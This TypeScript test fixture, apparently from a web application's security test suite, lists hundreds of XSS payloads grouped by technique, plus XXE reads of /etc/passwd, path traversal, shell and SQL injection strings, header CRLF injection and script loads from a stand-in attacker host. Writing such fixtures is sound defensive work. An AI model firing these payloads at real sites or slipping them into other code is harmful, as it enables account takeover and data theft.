/** What a payload does when it runs, in whatever way: the hook in tests/hostile/watch.ts counts it. */
export const MARK = "pwned";
const X = `${MARK}(1)`;

const base64 = (text: string) => Buffer.from(text).toString("base64");
const everyCharacter = (text: string, write: (code: number) => string) =>
  [...text].map((character) => write(character.codePointAt(0) ?? 0)).join("");
const decimal = (text: string) => everyCharacter(text, (code) => `&#${code};`);
const hexadecimal = (text: string) => everyCharacter(text, (code) => `&#x${code.toString(16)};`);
const padded = (text: string) => everyCharacter(text, (code) => `&#${String(code).padStart(7, "0")}`);
const percent = (text: string) => everyCharacter(text, (code) => `%${code.toString(16).padStart(2, "0")}`);
const fullWidth = (text: string) => everyCharacter(text, (code) => String.fromCodePoint(code + 0xfee0));

/**
 * Texts that would run a script, bring in an element, lead elsewhere or break out of a format, if somewhere they were
 * not taken for the words that they are: by what they try.
 */
// biome-ignore format: a table is read by its rows
export const GROUPS = {
  "elements that run by themselves": [
    `<script>${X}</script>`, `<ScRiPt >${X}</sCrIpT >`, `<script/x>${X}</script/y>`, `<script\n>${X}</script\n>`,
    `<script src=data:text/javascript,${X}></script>`, `<script type=module>${X}</script>`, `<scr<script>ipt>${X}</scr</script>ipt>`,
    `<<script>${X}//<</script>`, `<script async src=//payload.invalid/x.js></script>`, `<img src=x onerror=${X}>`,
    `<img src=x:x onerror="${X}" `, `<image src=x onerror=${X}>`, `<input autofocus onfocus=${X}>`, `<select autofocus onfocus=${X}>`,
    `<textarea autofocus onfocus=${X}>`, `<video><source onerror=${X}></video>`, `<audio src=x onerror=${X}></audio>`,
    `<details open ontoggle=${X}>`, `<marquee onstart=${X}>`, `<body onload=${X}>`, `<frameset onload=${X}>`,
    `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`, `<iframe src="javascript:parent.${X}"></iframe>`,
    `<object data="data:text/html,<script>parent.${X}</script>"></object>`, `<embed src="data:text/html,<script>${X}</script>">`,
    `<base href=//payload.invalid/>`, `<meta http-equiv=refresh content="0;url=javascript:${X}">`, `<link rel=stylesheet href=//payload.invalid/x.css>`,
    `<form action=javascript:${X}><button autofocus>Go</button></form>`, `<isindex type=image src=x onerror=${X}>`,
  ],
  "attributes that are broken out of": [
    `" onmouseover="${X}`, `' onmouseover='${X}`, `" autofocus onfocus="${X}" x="`, `' autofocus onfocus='${X}' x='`, `"><img src=x onerror=${X}>`,
    `'><img src=x onerror=${X}>`, `"/><svg onload=${X}>`, `\` onmouseover=\`${X}`, `x onmouseover=${X} `, `x\tonfocus=${X}\tautofocus`, `x/onfocus=${X}/autofocus/`,
    `"></textarea><script>${X}</script>`, `</title><script>${X}</script>`, `</option></select><img src=x onerror=${X}>`, `--><script>${X}</script><!--`,
    `" style="animation-name:x" onanimationstart="${X}`, `"accesskey="x"onclick="${X}`,
  ],
  "handlers of events": [
    `<b onmouseover=${X} style=position:fixed;inset:0>x</b>`, `<p onpointerenter=${X}>x`, `<a onclick=${X} href=#>x</a>`, `<div onwheel=${X}>x</div>`,
    `<a id=x tabindex=1 onfocus=${X}>x</a>`, `<style>@keyframes x{}</style><b style=animation-name:x onanimationend=${X}>`, `<b contenteditable onblur=${X}>x</b>`,
    `<button popovertarget=x>x</button><b popover id=x onbeforetoggle=${X}>`, `<dialog open onclose=${X}><form method=dialog><button>x`, `<p oncopy=${X}>copy`,
    `<b onscrollend=${X} style=overflow:auto>x`, `<img src onerror=\u000bx=${X}>`,
  ],
  "SVG and MathML": [
    `<svg onload=${X}>`, `<svg/onload=${X}//`, `<svg><script>${X}</script></svg>`, `<svg><script href=data:text/javascript,${X} />`,
    `<svg><animate onbegin=${X} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${X}><a><text y=20>x`,
    `<svg><a xlink:href="javascript:${X}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=${X} /></svg>`)}#x">`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${X}</script>">`, `<svg><style><img src=x onerror=${X}></style>`, `<math href=javascript:${X}>x`,
    `<math><maction actiontype=statusline xlink:href=javascript:${X}>x`, `<math><annotation-xml encoding=text/html><img src=x onerror=${X}>`,
  ],
  "addresses of links in Markdown": [
    `[a](javascript:${X})`, `[a](JaVaScRiPt:${X})`, `[a](<javascript:${X}>)`, `[a]( javascript:${X} )`, `<javascript:${X}>`,
    `[a](javascript&colon;${X})`, `[a](${decimal("javascript:")}${X})`, `[a](${hexadecimal("javascript:")}${X})`, `[a](${padded("javascript:")}${X})`,
    `[a](${percent("javascript:")}${X})`, `[a](javascript%3A${X})`, `[a](java&Tab;script:${X})`, `[a](java&NewLine;script:${X})`, `[a](&#1;javascript:${X})`,
    `[a](\\javascript:${X})`, `[a](java\\script:${X})`, `[a](\u200bjavascript:${X})`, `[a](${fullWidth("javascript:")}${X})`, `[a](view-source:javascript:${X})`,
    `[a](javascript://x.example/%0a${X})`, `[a](javascript:/*-->*/${X})`, `[a](data:text/html,<script>${X}</script>)`, `[a](data:text/html;base64,${base64(`<script>${X}</script>`)})`,
    `[a](data:image/svg+xml,<svg onload=${X}>)`, `[a](vbscript:${X})`, `[a](livescript:${X})`, `[a](feed:javascript:${X})`, `[a](blob:https://payload.invalid/1)`,
    `[a][b]\n\n[b]: javascript:${X}`, `[b]\n\n[b]: <javascript:${X}> "x"`, `![a](javascript:${X})`, `![a](data:image/svg+xml,<svg onload=${X}>)`,
    `[a](//payload.invalid)`, `[a](\\\\payload.invalid)`, `[a](https:payload.invalid)`, `[a](/signout)`, `[a](https://good.example@payload.invalid/)`,
  ],
  "Markdown within Markdown": [
    `[a](https://e.org "\\" onmouseover=${X} x=\\"")`, `[a](https://e.org/"onmouseover=${X})`, `[a](https://e.org/'onmouseover='${X})`, `[<img src=x onerror=${X}>](https://e.org)`,
    `[![a](javascript:${X})](https://e.org)`, `\`\`\` " onload=${X}\n<script>${X}</script>\n\`\`\``, `\`<script>${X}</script>\``, `    <script>${X}</script>`,
    `> <script>${X}</script>`, `- <img src=x onerror=${X}>`, `1. <svg onload=${X}>`, `**<b onclick=${X}>x**</b>`, `# <script>${X}</script>`, `| <img src=x onerror=${X}> |\n|---|`,
    `<https://e.org/"onclick=${X}>`, `https://e.org/<script>${X}</script>`, `https://e.org/"onmouseover="${X}`, `@<script>${X}</script>`, `@ada" onclick="${X}`,
    `[a](<https://e.org/ "onclick=${X}>)`, `~~<del onclick=${X}>~~`, `<!--still article--><script>${X}</script>`, `[a](https://e.org\n"x" onclick=${X})`,
  ],
  "entities": [
    `&lt;script&gt;${X}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${X}&amp;lt;/script&amp;gt;`, `${decimal("<script>")}${X}${decimal("</script>")}`, `${hexadecimal("<script>")}${X}${hexadecimal("</script>")}`,
    `${padded("<script>")}${X}`, `&LT;img src=x onerror=${X}&GT;`, `&#x3c;img src=x onerror&equals;${X}&#62;`, `&ltscript&gt${X}`, `&quot; onmouseover=&quot;${X}`, `&#0;<script>${X}</script>`,
    `<img src=x onerror="${decimal(X)}">`, `<a href="${hexadecimal(`javascript:${X}`)}">x</a>`,
  ],
  "languages of templates": [
    `{{constructor.constructor('${X}')()}}`, `\${${X}}`, `#{${X}}`, `<%= ${X} %>`, `{%raw%}<script>${X}</script>{%endraw%}`, `[[\${${X}}]]`, `{${X}}`,
    `{"$$typeof":"react.element","type":"script","props":{"children":"${X}"}}`, `$$F1["$${X}"]`, `<template><script>${X}</script></template>`, `<x-app is=script>${X}</x-app>`,
  ],
  "data within a page": [
    `</script><script>${X}</script>`, `</ScRiPt\t><img src=x onerror=${X}>`, `<!--<script>${X}</script>`, `"}</script><svg onload=${X}>`, `\\u003c/script\\u003e<script>${X}</script>`,
    `\\";${X};//`, `';${X};//`, `"-${X}-"`, `\`-${X}-\``, `\u2028${X}\u2029`, `]);self.__next_f.push([1,"${X}"]);//`, `{"@type":"Person","name":"</script><script>${X}</script>"}`,
  ],
  "markup that changes when it is read again": [
    `<noscript><p title="</noscript><img src=x onerror=${X}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${X}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${X}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${X}>`, `<listing>&lt;img src=x onerror=${X}&gt;</listing>`,
    `<xmp><p title="</xmp><img src=x onerror=${X}>">`, `<title><a title="</title><img src=x onerror=${X}>">`, `<textarea><a title="</textarea><svg onload=${X}>">`, `<p title="\`"><img alt="\` onerror=${X} src=x">`,
    `<table><td><a><table><script>${X}</script>`, `<plaintext><img src=x onerror=${X}>`,
  ],
  "styles": [
    `<style>*{background:url(//payload.invalid)}</style>`, `<p style="background:url(javascript:${X})">x</p>`, `<p style=width:expression(${X})>x`, `<style>@import '//payload.invalid/x.css';</style>`,
    `x;background:url("javascript:${X}")`, `<link rel=stylesheet href="data:text/css,*{display:none}">`, `</style><script>${X}</script>`, `<p style=position:fixed;inset:0;z-index:9>x</p>`,
  ],
  "letters that are others": [
    `\uff1cscript\uff1e${X}\uff1c/script\uff1e`, `\\u003cscript\\u003e${X}\\u003c/script\\u003e`, `\\x3cimg src=x onerror=${X}\\x3e`, `+ADw-script+AD4-${X}+ADw-/script+AD4-`, `<scr\u0000ipt>${X}</scr\u0000ipt>`,
    `\ufeff<script>${X}</script>`, `<\u200bscript>${X}</script>`, `\u202e<script>${X}</script>`, `\u2066<img src=x onerror=${X}>\u2069`, `<img\u00a0src=x\u00a0onerror=${X}>`, `<\u017fcript>${X}</\u017fcript>`, `\ud83d<script>${X}</script>`,
  ],
  "XML and feeds": [
    `]]><script>${X}</script>`, `<![CDATA[<script>${X}</script>]]>`, `</content><script>${X}</script>`, `<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`, `<?xml-stylesheet href="data:text/css,x"?>`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${X}</x:script>`, `&x;&undefined;`, `</entry></feed><feed>`, `<?php ${X} ?>`,
  ],
  "lines of headers": [
    `x\r\nSet-Cookie: parley=1`, `x\r\nBcc: victim@payload.invalid`, `x\nLocation: //payload.invalid`, `x%0d%0aSet-Cookie:%20a=b`, `x\u560a\u560dSet-Cookie: a=b`, `x\r\n\r\n<script>${X}</script>`,
    `x"; filename="y.html`, `=?utf-8?b?${base64(`<script>${X}</script>`)}?=`,
  ],
  "names of what objects have": ["__proto__", "constructor", "toString", "hasOwnProperty", `{"__proto__":{"role":"admin"}}`, "__defineGetter__", "then", "$ACTION_ID_1"],
  "where files and commands are": ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "; touch /tmp/pwned", "$(touch /tmp/pwned)", "'; DROP TABLE members;--", "%s%s%s%n", `=HYPERLINK("//payload.invalid","x")`],
} satisfies Record<string, readonly string[]>;

export const PAYLOADS: readonly string[] = Object.values(GROUPS).flat();

/** Two of each group, which the short tests take: enough to notice a field or a page that was forgotten. */
export const SOME_PAYLOADS: readonly string[] = Object.values(GROUPS).flatMap((group: readonly string[]) => [
  ...group.slice(0, 1),
  ...group.slice(-1),
]);
